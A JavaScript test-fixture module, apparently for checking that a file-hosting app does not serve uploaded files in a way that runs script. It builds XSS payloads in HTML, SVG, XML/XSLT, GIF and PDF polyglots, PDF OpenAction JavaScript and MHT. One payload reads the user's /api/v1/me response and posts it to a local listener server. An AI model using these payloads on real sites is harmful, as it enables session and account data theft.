// Files that would run a script where a careless server shows them, and another site that waits to hear of it.

import { createServer } from 'node:http';
import { gzipSync } from 'node:zlib';

/** A web site of somebody else: another port, so another origin. It serves pages and notes what it is called with. */
export class Stranger {
  pages = new Map();
  heard = [];

  static async open() {
    const stranger = new Stranger();
    stranger.server = createServer((request, response) => stranger.answer(request, response));
    await new Promise((listening) => { stranger.server.listen(0, '127.0.0.1', listening); });
    stranger.port = stranger.server.address().port;
    stranger.origin = `http://127.0.0.1:${stranger.port}`;
    return stranger;
  }

  answer(request, response) {
    const { pathname, search } = new URL(request.url, this.origin);
    const [type, body, more] = this.pages.get(pathname) ?? ['text/plain', ''];
    if (pathname === '/heard') this.heard.push(decodeURIComponent(search.slice(1)));
    response.writeHead(pathname === '/heard' || this.pages.has(pathname) ? 200 : 404, { 'content-type': type, ...more });
    response.end(body);
  }
}

/** A script that leaves its mark everywhere it can: the test's own binding, cookie, storage, title, another site, a dialog. */
export const mark = (name, origin) => [
  `window.ran?.('${name}')`,
  `document.title = 'ran'`,
  `document.cookie = 'ran=${name}'`,
  `try { localStorage.setItem('ran', '${name}') } catch {}`,
  `fetch('/api/v1/me').then(me => me.text()).catch(String).then(me => fetch('${origin}/heard?${name}', { method: 'POST', mode: 'no-cors', body: me }))`,
  `alert('${name}')`,
].join(';');

/** In XML, where `>` may stand and neither `&` nor `<` does in a mark. */
const XML = '<?xml version="1.0"?>';

/** A PDF of one empty page that does this when it is opened. */
function pdf(action, before = '') {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction<<${action}>>>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<<>>>>',
  ];
  let text = `%PDF-1.7\n${before}`;
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj${object}endobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  return `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}`
    + `trailer<</Root 1 0 R/Size ${objects.length + 1}>>\nstartxref\n${text.length}\n%%EOF`;
}

const pdfScript = (code) => `/S/JavaScript/JS(${code.replace(/[\\()]/g, '\\$&')})`;

/** What a script in a PDF can try: each step by itself, so that one that is refused does not end the others. */
const fromPdf = (name, origin) => [
  `this.getURL('${origin}/heard?${name}')`,
  `app.launchURL('${origin}/heard?${name}', true)`,
  `this.submitForm('${origin}/heard?${name}')`,
  `fetch('${origin}/heard?${name}')`,
  `app.alert('${name}')`,
].map((step) => `try { ${step} } catch (refused) {}`).join(';');

/**
 * The files: name, bytes, and the type with which a careless server would show them; none where browsers show no such
 * file from the web.
 */
export function files(origin, style) {
  const of = (name) => mark(name, origin);
  const page = (name) => `<!doctype html><title>x</title><p>Hostile paper.<script>${of(name)}</script>`;
  const picture = (name) => `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>Hostile</text><script>${of(name)}</script></svg>`;
  const scripted = (name) => pdf(pdfScript(fromPdf(name, origin)));
  return [
    ['inline.html', page('inline.html'), 'text/html'],
    ['onerror.html', `<!doctype html><p>Hostile<img src="x" onerror="${of('onerror.html')}">`, 'text/html'],
    ['script.svg', picture('script.svg'), 'image/svg+xml'],
    ['onload.svg', `${XML}<svg xmlns="http://www.w3.org/2000/svg" onload="${of('onload.svg')}"/>`, 'image/svg+xml'],
    ['x.svgz', gzipSync(picture('x.svgz')), 'image/svg+xml', { 'content-encoding': 'gzip' }],
    ['x.xhtml', `${XML}<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>${of('x.xhtml')}</script></body></html>`, 'application/xhtml+xml'],
    ['x.xml', `${XML}<paper>Hostile<script xmlns="http://www.w3.org/1999/xhtml">${of('x.xml')}</script></paper>`, 'application/xml'],
    ['styled.xml', `${XML}<?xml-stylesheet type="text/xsl" href="${style}"?><paper>Hostile</paper>`, 'application/xml'],
    ['x.js', of('x.js')],
    ['gif.gif', `GIF89a/*<script>${of('gif.gif')}</script>*/=1;${of('gif.gif')}`, 'text/html'],
    ['named.pdf', page('named.pdf'), 'text/html'],
    ['named.html', scripted('named.html'), 'application/pdf'],
    ['script.pdf', scripted('script.pdf'), 'application/pdf'],
    ['link.pdf', pdf(`/S/URI/URI(javascript:${of('link.pdf').replace(/[\\()]/g, '\\$&')})`)],
    ['polyglot.pdf', pdf(pdfScript(fromPdf('polyglot.pdf', origin)), `<script>${of('polyglot.pdf')}</script>\n`), 'text/html'],
    ['x.mht', `MIME-Version: 1.0\r\nFrom: a@b.example\r\nSubject: x\r\nContent-Type: multipart/related; boundary="b"; type="text/html"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://x.example/\r\n\r\n${page('x.mht')}\r\n--b--\r\n`],
  ].map(([name, bytes, careless, more]) => ({ name, bytes, careless, more }));
}

/** A style sheet that makes a page with a script of any XML document. */
export const styleSheet = (origin) => `${XML}<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>${mark('styled.xml', origin)}</script></body></html></xsl:template></xsl:stylesheet>`;
